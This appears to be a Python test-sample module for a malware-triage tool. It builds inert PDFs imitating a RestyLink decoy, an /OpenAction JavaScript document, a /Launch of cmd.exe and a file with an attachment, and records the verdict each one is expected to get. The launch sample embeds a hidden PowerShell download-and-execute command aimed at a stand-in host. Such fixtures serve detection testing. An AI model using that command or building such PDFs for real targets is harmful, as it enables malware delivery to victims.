"""Inert PDF samples: a RestyLink-style decoy, an /OpenAction JavaScript document, a /Launch of
cmd.exe, and a PDF with an attachment. Built with `pdf_writer.build_pdf`."""

from __future__ import annotations

from restytriage.samples import Sample
from restytriage.samples.pdf_writer import build_pdf

DECOY_TEXT = """Ministry of Foreign Affairs
Regional Security Seminar - Programme
12 May 2022, Tokyo

09:30  Opening remarks
10:00  Maritime security in the region
13:30  Panel: cyber threats to diplomatic missions
16:00  Closing"""


def decoy_pdf() -> bytes:
    return build_pdf(DECOY_TEXT, title="Seminar programme", author="MOFA")


def open_action_js_pdf() -> bytes:
    script = 'var notice = "Loading secure content..."; app.alert(notice); this.pageNum = 0;'
    return build_pdf(
        "Secure document. Please wait while it loads.", title="Secure message", open_action_js=script
    )


def launch_cmd_pdf() -> bytes:
    return build_pdf(
        "To view the encrypted content, click Open in the next dialog.",
        title="Encrypted invoice",
        launch="cmd.exe",
        launch_parameters='/c powershell -w hidden -c "iwr https://cdn.restylink.invalid/s.ps1 | iex"',
    )


def attachment_pdf() -> bytes:
    notes = b"Meeting notes\r\nAgenda items moved to next week.\r\n"
    return build_pdf(
        "Minutes attached.", title="Minutes", author="Secretariat", embedded={"notes.txt": notes}
    )


SAMPLES = [
    Sample(
        name="pdf_decoy_programme.pdf",
        build=decoy_pdf,
        imitates="RestyLink decoy PDF opened by the LNK while the payload runs (harmless on its own)",
        verdict="clean",
        absent=("pdf.javascript", "pdf.launch", "pdf.auto_action", "pdf.embedded_file", "pdf.trailing_data"),
        facts=(("title", "Seminar programme"), ("pages", "1")),
    ),
    Sample(
        name="pdf_openaction_javascript.pdf",
        build=open_action_js_pdf,
        imitates="PDF that runs JavaScript from its /OpenAction",
        verdict="suspicious",
        techniques=("T1059.007",),
        findings=("pdf.javascript", "pdf.auto_action"),
        absent=("pdf.launch", "pdf.js_exploit_api"),
        facts=(("JavaScript", "app.alert"), ("open action", "/OpenAction")),
    ),
    Sample(
        name="pdf_launch_cmd.pdf",
        # A PDF whose open action starts cmd.exe with a PowerShell download has no benign reading:
        # this is the 2010 /Launch dropper technique, so the sample must come out malicious.
        build=launch_cmd_pdf,
        imitates="PDF whose /OpenAction /Launch runs cmd.exe and PowerShell (Zeus-era /Launch technique)",
        verdict="malicious",
        techniques=("T1204.002", "T1059"),
        findings=("pdf.launch", "pdf.launch_interpreter", "pdf.auto_action"),
        absent=("pdf.javascript",),
        facts=(("launch", "cmd.exe"),),
    ),
    Sample(
        name="pdf_with_attachment.pdf",
        build=attachment_pdf,
        imitates="PDF carrying an attached file (extracted as a child)",
        verdict="clean",
        findings=("pdf.embedded_file",),
        absent=("pdf.embedded_executable", "pdf.javascript"),
        facts=(("attachments", "notes.txt"),),
    ),
]
